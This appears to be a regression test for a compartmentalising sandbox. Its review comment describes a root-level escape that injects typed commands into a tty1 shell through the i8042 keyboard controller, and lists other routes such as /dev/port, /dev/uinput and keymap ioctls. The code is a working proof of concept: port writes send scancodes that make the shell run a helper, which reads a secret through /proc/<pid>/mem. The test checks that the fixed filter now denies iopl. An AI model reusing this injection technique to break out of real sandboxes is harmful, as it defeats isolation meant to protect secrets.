// Review 34, attacker model B (the default domain's program counter, any
// system call the filter allows), as root (CAP_SYS_RAWIO). Review 33
// closed TIOCSTI and TIOCLINUX: input pushed into a terminal is run by
// the shell that reads it, outside the filter. The keyboard is another
// way in: iopl and ioperm are not in the filter's list, and with port
// I/O the program has the PC keyboard controller (i8042, command 0xD2
// "write keyboard output buffer") hand the kernel bytes as if typed on
// the keyboard: the kernel's keyboard handler puts them into the
// foreground virtual console's input, which a login shell there reads.
// /dev/port (a memory device the supervisor lets through), an
// /dev/uinput virtual keyboard or a write to /dev/input/event* (root's)
// do the same without iopl, and a virtual console's keymap
// (KDSKBENT/KDSKBSENT, CAP_SYS_TTY_CONFIG or maybe the console's owner)
// binds a key the user presses next to a whole command: reasoned, not
// run (no uinput or evdev module in the guest). Port I/O also reaches
// devices that write memory (DMA): reasoned, not run.
//
// Here a launcher plays a shell on tty1 (the foreground console): it
// holds /dev/tty1 open, runs the program and, once it has ended, reads
// one line from tty1 and runs it (split at spaces). The program copies
// HELPER (Inputs/mem-reader.c) to /tmp/h, forks a keeper that sleeps with
// the vault's page, calls iopl(3) and types "/tmp/h KEEPER ADDR /tmp/o"
// and Enter through the controller (set 1 scancodes), then ends. The
// helper, run by the launcher outside the filter, copies the keeper's
// vault bytes to /tmp/o through /proc/<pid>/mem, and the launcher shows
// them.
//
// Seen in the guest (root; QEMU's i8042, the host's kernel):
// ATTACK SUCCEEDED.
//
// Suggested fix: refuse iopl and ioperm in the filter, opens of /dev/port
// and /dev/mem (supervisor-open.c; /dev/mem is kept from RAM by
// STRICT_DEVMEM, not from devices), and of /dev/uinput and
// /dev/input/* for writing; refuse the virtual console's keymap ioctls
// (KDSKBENT, KDSKBSENT, KDSETKEYCODE) as TIOCSTI is.
// Fixed: the filter refuses iopl and ioperm, and the keymap ioctls with
// TIOCSTI (runtime/bpf.c); the supervisor refuses opens for writing of
// /dev/mem, /dev/kmem, /dev/port, /dev/uinput and the event devices
// (supervisor-open.c bh_kernel_setting). Here the program stops at iopl.
// REQUIRES: pku
// RUN: rm -rf %t && mkdir -p %t
// RUN: %clang -O1 %S/Inputs/mem-reader.c -o %t/helper
// RUN: %clang -DLAUNCHER -O1 %s -o %t/launch
// RUN: %bulkhead_clang -fpkey-compartments -O1 %s -o %t/prog
// RUN: env BULKHEAD_VM_FILES=%t/prog:%t/helper %run %t/launch %t/prog %t/helper > %t/out 2>&1 || true
// RUN: FileCheck %s < %t/out
// CHECK: vault says 20
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: bulkhead: denied: iopl{{.*}}port I/O reaches devices
// CHECK-NOT: ATTACK SUCCEEDED
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#define OUT "/tmp/o"

#ifdef LAUNCHER
#include "Inputs/terminal-reader.h"
/* launch PROG ARGS...: a shell on tty1: PROG, then one line read from
 * tty1 run as a command. */
int main(int argc, char **argv) {
  if (argc < 2)
    return 2;
  setvbuf(stdout, NULL, _IONBF, 0);
  if (mknod("/dev/tty1", S_IFCHR | 0620, makedev(4, 1)) && errno != EEXIST)
    perror("launch: mknod /dev/tty1");
  int tty = open("/dev/tty1", O_RDWR | O_NOCTTY);
  if (tty < 0) {
    perror("launch: /dev/tty1");
    return 2;
  }
  unlink(OUT);
  pid_t prog = fork();
  if (prog == 0) {
    execv(argv[1], argv + 1);
    _exit(127);
  }
  int st;
  waitpid(prog, &st, 0);
  run_typed_line(tty, 3000, OUT);
  return 0;
}
#else
#include <sys/io.h>

#include <bulkhead.h>

BULKHEAD_DATA(vault) static char secret[32] = "TOP-SECRET-VAULT-KEY";
BULKHEAD_ENTRY(vault) int vault_len(void) { return (int)strlen(secret); }

/* Set 1 make codes (the i8042 translates for Linux's atkbd). */
static int scancode(char c) {
  static const char *row = "1234567890";
  const char *d = strchr(row, c);
  if (c && d)
    return 0x02 + (int)(d - row);
  switch (c) {
  case 'a': return 0x1e;
  case 'b': return 0x30;
  case 'c': return 0x2e;
  case 'd': return 0x20;
  case 'e': return 0x12;
  case 'f': return 0x21;
  case 'h': return 0x23;
  case 'm': return 0x32;
  case 'o': return 0x18;
  case 'p': return 0x19;
  case 't': return 0x14;
  case '/': return 0x35;
  case ' ': return 0x39;
  case '\n': return 0x1c;
  }
  return -1;
}

/* One byte handed to the kernel as if the keyboard sent it. */
static void key_byte(int b) {
  for (int i = 0; i < 100000 && inb(0x64) & 2; i++)
    ;
  outb(0xd2, 0x64); /* write keyboard output buffer */
  for (int i = 0; i < 100000 && inb(0x64) & 2; i++)
    ;
  outb((unsigned char)b, 0x60);
  for (int i = 0; i < 200 && inb(0x64) & 1; i++)
    usleep(1000); /* the kernel's handler takes it */
  usleep(2000);
}

static int copy(const char *from, const char *to) {
  int in = open(from, O_RDONLY), out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755);
  char buf[65536];
  ssize_t n;
  while (in >= 0 && out >= 0 && (n = read(in, buf, sizeof buf)) > 0)
    if (write(out, buf, (size_t)n) != n)
      return -1;
  if (in >= 0)
    close(in);
  if (out >= 0)
    close(out);
  return in >= 0 && out >= 0 ? 0 : -1;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  printf("uid %d\nvault says %d\n", (int)getuid(), vault_len());
  if (argc < 2)
    return 2;
  if (copy(argv[1], "/tmp/h"))
    perror("copy helper");
  pid_t keeper = fork();
  if (keeper == 0) {
    sleep(15); /* the vault's page, for the helper */
    _exit(0);
  }
  char cmd[128];
  snprintf(cmd, sizeof cmd, "/tmp/h %d %lx " OUT "\n", (int)keeper,
           (unsigned long)secret);
  printf("iopl(3): %d\n", iopl(3));
  int typed = 0;
  for (const char *c = cmd; *c; c++) {
    int s = scancode(*c);
    if (s < 0)
      continue;
    key_byte(s);
    key_byte(s | 0x80);
    typed++;
  }
  printf("typed %d keys\n", typed);
  return 0;
}
#endif
